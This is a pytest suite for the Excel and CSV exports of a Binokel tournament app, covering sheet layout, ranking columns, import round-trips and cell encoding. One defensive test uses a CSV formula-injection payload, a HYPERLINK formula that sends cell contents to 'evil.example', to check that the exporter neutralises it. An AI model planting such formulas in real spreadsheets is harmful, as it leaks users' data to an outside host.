"""The rankings workbook (one sheet per competition, "Spiele" in long format, the entrants)
read back with openpyxl, and the CSV files made from the same rows."""

from __future__ import annotations

import csv
import gc
import io
import re
import zipfile
from collections import defaultdict
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from binokel_tournament.exports import CsvExporter, ExportError
from binokel_tournament.exports import RankingsWorkbookExporter as Workbook
from binokel_tournament.exports.csv import csv_text
from binokel_tournament.exports.excel import collector_paused, sheet_title, workbook_bytes
from binokel_tournament.exports.rows import games_rows, standings_rows
from binokel_tournament.exports.table import POINTS_FORMAT, Column, RowTable
from binokel_tournament.models import Mode, PartyResult, SheetStatus
from binokel_tournament.services.evening.registration import read_table_file, rows_to_import
from binokel_tournament.services.evening.standings import compute_standings

pytestmark = pytest.mark.django_db


def open_workbook(demo):
    result = Workbook(demo).render()
    assert result.filename == f"{demo.slug}-rangliste.xlsx"
    assert result.content_type.startswith("application/vnd.openxmlformats")
    return load_workbook(io.BytesIO(result.content))


def sheet_dicts(ws) -> list[dict[str, object]]:
    rows = list(ws.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_one_sheet_per_competition_then_games_then_entrants(demo):
    wb = open_workbook(demo)
    assert wb.sheetnames[:4] == ["Einzel", "Paare", "Spiele", "Teilnehmer"]
    assert wb.sheetnames[4:] == ["Spenden", "Kategorien", "Vereine", "Statistik"]  # issue 13
    for ws in wb.worksheets:
        assert ws.freeze_panes == "A2"
        assert ws.auto_filter.ref == f"A1:{ws.cell(1, ws.max_column).column_letter}{ws.max_row}"
        assert all(cell.font.b for cell in ws[1])
        assert all(ws.column_dimensions[c.column_letter].width >= 7 for c in ws[1])


def test_a_competition_sheet_holds_the_ranking_with_tie_breaks(demo):
    wb = open_workbook(demo)
    singles = compute_standings(demo.competitions.get(mode=Mode.SINGLES), 1)
    ws = wb["Einzel"]
    header = [c.value for c in ws[1]]
    assert header == [
        "Platz",
        "Startnummer",
        "Name",
        "Verein",
        "1. Durchgang",
        "Gesamt",
        "gew. Spiele",
        "bester Durchgang",
    ]
    rows = sheet_dicts(ws)
    assert len(rows) == len(singles.rows) == 13
    for got, row in zip(rows, singles.rows, strict=True):
        assert got["Platz"] == row.place
        assert got["Startnummer"] == row.entrant.start_number
        assert got["Name"] == row.entrant.name
        assert (got["Verein"] or "") == row.entrant.club
        assert got["1. Durchgang"] == row.round_points[0]
        assert got["Gesamt"] == row.total
        assert got["gew. Spiele"] == row.metrics["declarer_wins"]
        assert got["bester Durchgang"] == row.metrics["best_round"]
    assert ws["F2"].number_format == POINTS_FORMAT
    assert ws["B2"].number_format == "General" and isinstance(ws["B2"].value, int)
    assert isinstance(ws["F2"].value, int)

    pairs = sheet_dicts(wb["Paare"])
    pair_rows = compute_standings(demo.competitions.get(mode=Mode.PAIRS), 1).rows
    assert [(r["Name"], r["Partner/in"], r["Gesamt"]) for r in pairs] == [
        (r.entrant.name, r.entrant.partner, r.total) for r in pair_rows
    ]


def test_the_games_sheet_has_one_row_per_party_per_game(demo):
    rows = sheet_dicts(open_workbook(demo)["Spiele"])
    results = PartyResult.objects.filter(
        game__sheet__table__round__tournament=demo, game__sheet__status=SheetStatus.CONFIRMED
    )
    assert len(rows) == results.count() > 100
    assert list(rows[0]) == [
        "Wertung",
        "Durchgang",
        "Tisch",
        "Spiel",
        "Startnummer",
        "Name",
        "Spielmacher",
        "Art",
        "Reizwert",
        "Meldung",
        "Stiche",
        "Punkte",
        "gewonnen",
        "verworfen",
        "setzt aus",
    ]
    # every game once per party, one declarer each, the points add up to the standings
    games = defaultdict(list)
    for r in rows:
        games[(r["Durchgang"], r["Tisch"], r["Spiel"])].append(r)
    for parties in games.values():
        assert len(parties) in (2, 3, 4)
        assert sum(1 for p in parties if p["Spielmacher"]) == 1
        assert len({p["Art"] for p in parties}) == 1
    points = defaultdict(int)
    for r in rows:
        points[r["Startnummer"]] += r["Punkte"]
    for mode in Mode.values:
        for row in compute_standings(demo.competitions.get(mode=mode), 1).rows:
            assert points[row.entrant.start_number] == row.total
    sitting_out = [r for r in rows if r["setzt aus"]]
    assert sitting_out and all(r["Punkte"] == 0 and r["Meldung"] is None for r in sitting_out)
    assert {r["Art"] for r in rows} <= {"gespielt", "abgeschrieben", "Durch"}


def test_the_entrants_sheet_on_its_own_reads_back_through_the_registration_import(demo):
    """The .xlsx import shares the CSV import's column mapping, so the entrants sheet's
    headers are understood — but the import reads a workbook's first sheet (a ranking), so
    the sheet is imported on its own: moved to the front here (or as the "Teilnehmer" CSV)."""
    wb_bytes = Workbook(demo).render().content
    wb = load_workbook(io.BytesIO(wb_bytes))
    entrants = sheet_dicts(wb["Teilnehmer"])
    assert [e["Startnummer"] for e in entrants] == list(range(1, 18))
    sheet = wb["Teilnehmer"]
    out = io.BytesIO()
    wb.move_sheet(sheet, offset=-wb.index(sheet))
    wb.save(out)
    imported = rows_to_import(read_table_file("teilnehmer.xlsx", out.getvalue()))
    expected = demo.entrants.order_by("start_number")
    assert [(r.start_number, r.name, r.partner, r.club) for r in imported] == [
        (e.start_number, e.name, e.partner, e.club) for e in expected
    ]


def test_csv_comes_from_the_same_rows_as_the_workbook(demo):
    wb = open_workbook(demo)
    for table, sheet in (
        (Mode.SINGLES, "Einzel"),
        (Mode.PAIRS, "Paare"),
        ("spiele", "Spiele"),
        ("teilnehmer", "Teilnehmer"),
    ):
        result = CsvExporter(demo, table).render()
        assert result.content.startswith("\ufeff".encode())
        assert result.content_type.startswith("text/csv")
        text = result.content.decode("utf-8-sig")
        csv_rows = list(csv.reader(io.StringIO(text), delimiter=";"))
        xlsx_rows = list(wb[sheet].iter_rows(values_only=True))
        assert len(csv_rows) == len(xlsx_rows)
        for got, want in zip(csv_rows, xlsx_rows, strict=True):
            assert got == [_as_csv(v) for v in want]


def _as_csv(value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "1" if value else "0"
    return str(value)


def test_csv_of_the_entrants_imports_back(demo):
    data = CsvExporter(demo, "teilnehmer").render().content
    imported = rows_to_import(read_table_file("teilnehmer.csv", data))
    assert [r.name for r in imported] == list(
        demo.entrants.order_by("start_number").values_list("name", flat=True)
    )


def test_rows_can_be_taken_after_a_round(demo):
    singles = demo.competitions.get(mode=Mode.SINGLES)
    table = standings_rows(singles, after_round=3)
    assert [c.label for c in table.columns][4:7] == ["1. Durchgang", "2. Durchgang", "3. Durchgang"]
    assert table.column("total") == [r.total for r in compute_standings(singles).rows]
    assert games_rows(demo).title == "Spiele"


def test_an_unknown_csv_table_is_refused(demo):
    with pytest.raises(ExportError):
        CsvExporter(demo, "kasse")


def test_awkward_text_survives_the_workbook(demo):
    entrant = demo.entrants.order_by("start_number").first()
    entrant.name = " Anna <Müller> & Söhne\x07 "
    entrant.club = 'Verein "1. FC" – Köngen'
    entrant.save()
    wb = open_workbook(demo)
    first = sheet_dicts(wb["Teilnehmer"])[0]
    assert first["Name"] == " Anna <Müller> & Söhne "  # the bell character XML cannot hold
    assert first["Verein"] == 'Verein "1. FC" – Köngen'


# --- CSV: nothing a spreadsheet program would run as a formula -------------------------------


def test_csv_defuses_text_a_spreadsheet_would_run_as_a_formula(demo):
    entrant = demo.entrants.filter(partner="").order_by("start_number").first()
    entrant.name = '=HYPERLINK("http://evil.example/?"&A1;"Klick")'
    entrant.club = "@SUMME(A1:A9)"
    entrant.save()
    text = CsvExporter(demo, "teilnehmer").render().content.decode("utf-8-sig")
    rows = {r[0]: r for r in csv.reader(io.StringIO(text), delimiter=";")}
    row = rows[str(entrant.start_number)]
    assert row[1] == "'" + entrant.name
    assert row[3] == "'@SUMME(A1:A9)"
    # the workbook keeps the text as it is: an inline string is never a formula there
    first = {e["Startnummer"]: e for e in sheet_dicts(open_workbook(demo)["Teilnehmer"])}
    assert first[entrant.start_number]["Name"] == entrant.name


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+49 711 123", "'+49 711 123"),
        ("-Vorstand-", "'-Vorstand-"),
        ("@A1", "'@A1"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        ("Müller-Lüdenscheidt", "Müller-Lüdenscheidt"),
        ("a=b", "a=b"),
        (-170, "-170"),
        (-1.5, "-1,5"),
        (0, "0"),
        (True, "1"),
        (None, ""),
        ("", ""),
    ],
)
def test_csv_text_prefixes_only_text_that_starts_like_a_formula(value, written):
    assert csv_text(value) == written


def test_negative_points_stay_numbers_in_the_csv(demo):
    text = CsvExporter(demo, "spiele").render().content.decode("utf-8-sig")
    points = [r[11] for r in csv.reader(io.StringIO(text), delimiter=";")][1:]
    assert any(p.startswith("-") for p in points)
    assert not any(p.startswith("'") for p in points)


# --- the workbook's cells: what Excel reads ----------------------------------------------------


def one_column_workbook(values: list[object], number_format: str | None = None) -> bytes:
    table = RowTable("probe", "Probe", [Column("value", "Wert", 20, number_format)])
    table.rows = [[v] for v in values]
    return workbook_bytes([table])


def read_column(data: bytes, **kwargs) -> list[object]:
    ws = load_workbook(io.BytesIO(data), **kwargs).worksheets[0]
    return [row[0] for row in ws.iter_rows(min_row=2, values_only=True)]


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def ooxml_text(data: bytes) -> list[str]:
    """The strings of column A below the header as Excel reads them: each cell's shared
    string, XML-decoded, then its ``_xHHHH_`` escapes resolved (ECMA-376 ST_Xstring) — which
    openpyxl's reader does only for ``_x005F_``."""
    from xml.etree import ElementTree

    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        shared = ElementTree.fromstring(archive.read("xl/sharedStrings.xml"))
        sheet = ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
    strings = ["".join(t.text or "" for t in si.iterfind(".//m:t", ns)) for si in shared]
    cells = [c for c in sheet.iterfind(".//m:sheetData/m:row/m:c", ns) if c.get("r") != "A1"]
    assert all(c.get("t") == "s" for c in cells)
    texts = [strings[int(c.findtext("m:v", namespaces=ns))] for c in cells]
    return [re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), t) for t in texts]


def test_floats_are_written_as_numbers():
    data = one_column_workbook([1.5, -0.25, 1e20, 3], "0.00")
    assert read_column(data) == [1.5, -0.25, 1e20, 3]
    assert all(isinstance(v, (int, float)) for v in read_column(data))
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    assert ws["A2"].number_format == "0.00"


@pytest.mark.parametrize(
    "value", [Decimal("1.5"), date(2026, 11, 28), object(), b"bytes", float("nan"), float("inf")]
)
def test_values_the_workbook_cannot_hold_are_refused_not_written_as_text(value):
    with pytest.raises((TypeError, ValueError)):
        one_column_workbook([value])


def test_text_that_looks_like_a_formula_or_a_link_stays_text():
    names = ["=1+1", '=HYPERLINK("http://x.example")', "http://x.example/", "+49 711", "007"]
    data = one_column_workbook(names)
    assert read_column(data) == names
    assert "<f>" not in sheet_xml(data) and "hyperlink" not in sheet_xml(data).lower()


def test_characters_xml_cannot_hold_are_left_out():
    data = one_column_workbook(["A\x00B\x0bC\ufffeD\uffffE\ud800F", "Gut\tso\n"])
    assert read_column(data) == ["ABCDEF", "Gut\tso\n"]


def test_text_that_looks_like_an_ooxml_escape_is_escaped_itself():
    names = ["Meier_x0041_", "_x000D_", "_x005F_", "a_x00b", "_X0041_"]
    data = one_column_workbook(names)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/sharedStrings.xml").decode()
    assert "Meier_x005F_x0041_" in xml and "_x005F_x000D_" in xml
    assert ooxml_text(data) == names  # what Excel shows
    # openpyxl undoes the escape when reading (crudely: it drops every "x005F_", so a
    # literal "_x005F_" would come back as "_")
    assert read_column(data)[:2] == names[:2]
    assert read_column(data, rich_text=True)[:2] == names[:2]


def test_carriage_returns_and_outer_spaces_survive_the_workbook():
    names = ["Zeile 1\r\nZeile 2", "a\rb", "\r", "  zwei Leerzeichen  "]
    data = one_column_workbook(names)
    assert ooxml_text(data) == names  # a carriage return is written as _x000D_
    assert read_column(data)[3] == names[3]


def test_sheet_names_are_ones_excel_accepts():
    taken: set[str] = set()
    names = [sheet_title(t, taken) for t in ("Einzel", "einzel", "a/b:c", "'Zitat'", "x" * 40, "")]
    assert names == ["Einzel", "einzel 2", "a-b-c", "Zitat", "x" * 31, "Tabelle"]
    tables = [RowTable("t", title, [Column("v", "Wert")]) for title in ("Einzel", "einzel", "'")]
    wb = load_workbook(io.BytesIO(workbook_bytes(tables)))
    assert wb.sheetnames == ["Einzel", "einzel 2", "Tabelle"]


def test_the_collector_runs_again_after_a_workbook_also_after_an_error():
    assert gc.isenabled()
    with collector_paused():
        assert not gc.isenabled()
    assert gc.isenabled()
    with pytest.raises(TypeError), collector_paused():
        workbook_bytes([RowTable("x", "x", [Column("a", "a")], [[Decimal("1.5")]])])
    assert gc.isenabled()
